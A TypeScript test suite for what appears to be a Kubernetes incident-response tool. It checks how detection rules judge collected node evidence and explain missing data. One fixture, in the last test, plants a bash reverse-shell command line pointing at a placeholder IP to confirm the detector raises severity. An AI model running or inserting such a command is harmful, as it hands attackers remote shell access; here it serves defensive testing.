import { expect } from 'chai';
import type { Docket } from '../../src/findings/docket.ts';
import { judge, reaches, unmet } from '../../src/findings/judge.ts';
import type { Rule } from '../../src/findings/rule.ts';
import { rules } from '../../src/findings/rules.ts';
import { identityReach } from '../../src/findings/rules/identity-reach.ts';
import { programUnlikeOtherNodes } from '../../src/findings/rules/program-unlike-other-nodes.ts';
import { reverseShell } from '../../src/findings/rules/reverse-shell.ts';
import { tamperedProgram } from '../../src/findings/rules/tampered-program.ts';
import { uEventItems } from './planted.ts';
import { bookOf, cleanNode, type Items, podList, podObject, processItems, web } from './traces-lab.ts';

function docketOf(items: Items, gaps: readonly { name: string; why: string }[] = []): Docket {
  const book = bookOf(items);
  return { ...book.docket(), gaps: [...book.gaps, ...gaps] };
}

describe('a judgement', () => {
  it('lets a rule that holds nodes against each other look at all of them once, in each judgement anew', () => {
    const fleets: string[][] = [];
    const rule: Rule = {
      ...programUnlikeOtherNodes,
      nodes: 2,
      judgeAmong: (fleet) => {
        fleets.push(fleet.map(({ node }) => node));
        return ({ node }) => [{ subject: {}, seen: `${node} of ${fleet.length}`, evidence: [] }];
      },
    };
    const programs = { 'live_response/packages/programs.sha256': `${'a'.repeat(64)}  usr/bin/x\n` };
    const dockets = ['a', 'b', 'c'].map((node) => {
      const docket = docketOf(node === 'c' ? {} : programs);
      return { ...docket, traces: { ...docket.traces, node } };
    });
    const seen = [1, 2].map(() => judge([rule], dockets, 'c').findings.map((finding) => finding.seen));
    expect(seen).to.deep.equal([
      ['a of 2', 'b of 2'],
      ['a of 2', 'b of 2'],
    ]);
    expect(fleets).to.deep.equal([
      ['a', 'b'],
      ['a', 'b'],
    ]);
  });
  it('finds nothing grave on a clean node, and judges every rule there that needs one node', () => {
    const { findings, notJudged, incomplete } = judge(rules, [docketOf(cleanNode())], 'c');
    expect([findings, incomplete]).to.deep.equal([[], []]);
    const more = rules.filter(({ nodes }) => nodes !== undefined).map(({ id }) => id);
    expect(notJudged.map(({ rule, reason }) => `${rule}: ${reason}`)).to.deep.equal(
      more.map((id) => `${id}: the case has digests of programs of 1 node, and 4 are needed`),
    );
  });
  it('judges no rule without its evidence, says why, and how to get it', () => {
    const { findings, notJudged } = judge(rules, [docketOf({})], './c');
    expect(findings).to.deep.equal([]);
    expect(notJudged.map(({ rule }) => rule)).to.deep.equal(rules.map(({ id }) => id));
    expect(judge([reverseShell], [docketOf({})], './c').notJudged).to.deep.equal([
      {
        rule: 'reverse-shell',
        node: 'node-a',
        lack: 'missing',
        reason: 'the case has no processes of this node',
        next: 'kubectl ir snapshot node node-a --case ./c',
      },
    ]);
  });
  it('gives the reason of the collection where there is one', () => {
    const gap = { name: '[root]/proc/10/status', why: 'denied, no collector' };
    expect(judge([reverseShell], [docketOf({}, [gap])], 'c').notJudged[0]?.reason).to.equal(
      'the case has no processes of this node: [root]/proc/10/status: denied, no collector',
    );
  });
  it('judges no rule on a part that would make the rest look like traces', () => {
    const gap = { name: 'live_response/kubernetes/pods.json', why: 'denied, forbidden' };
    const { findings, notJudged } = judge(rules, [docketOf(cleanNode(), [gap])], 'c');
    expect(findings).to.deep.equal([]);
    expect(notJudged.find(({ rule }) => rule === 'ghost-pod')?.reason).to.equal(
      'the case has no whole list of pods by the API server of this node: live_response/kubernetes/pods.json: denied, forbidden',
    );
  });
  it('tells what nobody asked for from what was asked for and is not there', () => {
    const docket: Docket = {
      ...docketOf({}),
      lackOf: (need) => (need === 'processes' ? 'missing' : 'not-asked'),
    };
    const { notJudged } = judge([reverseShell, tamperedProgram], [docket], 'c');
    expect(notJudged.map(({ lack, reason }) => [lack, reason])).to.deep.equal([
      ['missing', 'the case has no processes of this node'],
      ['not-asked', 'nothing in the case asked for digests of programs of this node'],
    ]);
    expect(unmet(notJudged, false).map(({ rule }) => rule)).to.deep.equal(['reverse-shell']);
    expect(unmet(notJudged, true)).to.have.length(2);
  });
  it('says what was judged on less', () => {
    const gap = { name: '[root]/proc/10/net/tcp', why: 'truncated' };
    expect(judge([reverseShell], [docketOf(cleanNode(), [gap])], 'c').incomplete).to.deep.equal([
      { rule: 'reverse-shell', node: 'node-a', items: 1, reason: '[root]/proc/10/net/tcp: truncated' },
    ]);
  });
  it('puts what weighs most first, and gives the same each time', () => {
    const items = { ...cleanNode(), ...uEventItems };
    const once = judge(rules, [docketOf(items)], 'c');
    expect(once.findings.map(({ severity }) => severity)).to.deep.equal(['critical', 'medium', 'low']);
    expect(judge([...rules].reverse(), [docketOf(items)], 'c').findings).to.deep.equal(once.findings);
  });
  it('keeps what weighs most behind a flood of lighter matches of the same rule', () => {
    const flood = Array.from(
      { length: 1200 },
      (_, i) => `0|/var/lib/kubelet/pods/${i}|1|-rwsr-xr-x|0|0|1|1|1|1|0\n`,
    );
    const lines = [...flood, '0|/tmp/x|1|-rwsr-xr-x|0|0|1|1|1|1|0\n'].join('');
    const { findings } = judge(rules, [docketOf({ ...cleanNode(), 'bodyfile/bodyfile.txt': lines })], 'c');
    expect(findings).to.have.length(1000);
    expect(findings[0]).to.deep.include({ severity: 'high', subject: { node: 'node-a', path: '/tmp/x' } });
  });
  it('tells a thousand of a flood, and that there is more', () => {
    const lines = Array.from({ length: 1200 }, (_, i) => `0|/tmp/${i}|1|-rwsr-xr-x|0|0|1|1|1|1|0\n`).join('');
    const { findings, incomplete } = judge(
      rules,
      [docketOf({ ...cleanNode(), 'bodyfile/bodyfile.txt': lines })],
      'c',
    );
    expect(findings).to.have.length(1000);
    expect(incomplete).to.deep.equal([
      {
        rule: 'setuid-planted',
        node: 'node-a',
        items: 200,
        reason: 'it matched 1200 times; the gravest 1000 are told',
      },
    ]);
  });
});

describe('severities', () => {
  it('reach what weighs less', () => {
    expect([reaches('critical', 'high'), reaches('high', 'high'), reaches('medium', 'high')]).to.deep.equal([
      true,
      true,
      false,
    ]);
  });

  it('weighs an identity by what all rules say of its pod, also when one rule alone is asked for', () => {
    const token = { volumes: [{ projected: { sources: [{ serviceAccountToken: {} }] } }] };
    const account = { kind: 'ServiceAccount', name: 'default', namespace: 'prod' };
    const items: Items = {
      ...cleanNode(),
      'live_response/pod-diff.json': '{"containers":[]}',
      'live_response/kubernetes/pods.json': podList(podObject(web, { spec: token })),
      'live_response/kubernetes/clusterrolebindings.json': JSON.stringify({
        items: [
          { metadata: { name: 'b' }, roleRef: { kind: 'ClusterRole', name: 'r' }, subjects: [account] },
        ],
      }),
      'live_response/kubernetes/clusterroles.json': JSON.stringify({
        items: [{ metadata: { name: 'r' }, rules: [{ verbs: ['*'], apiGroups: ['*'], resources: ['*'] }] }],
      }),
    };
    const weights = (more: Items, all = rules): string[] =>
      judge([identityReach], [docketOf({ ...items, ...more })], 'c', all).findings.map(
        ({ severity }) => severity,
      );
    const shell = processItems(10, {
      in: web,
      args: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.66/4444 0>&1'],
    });
    expect(weights({})).to.deep.equal(['low']);
    expect(weights(shell)).to.deep.equal(['critical']);
    expect(
      judge(rules, [docketOf({ ...items, ...shell })], 'c').findings.map(({ rule }) => rule),
    ).to.include.members(['identity-reach', 'shell-command-line']);
  });
});
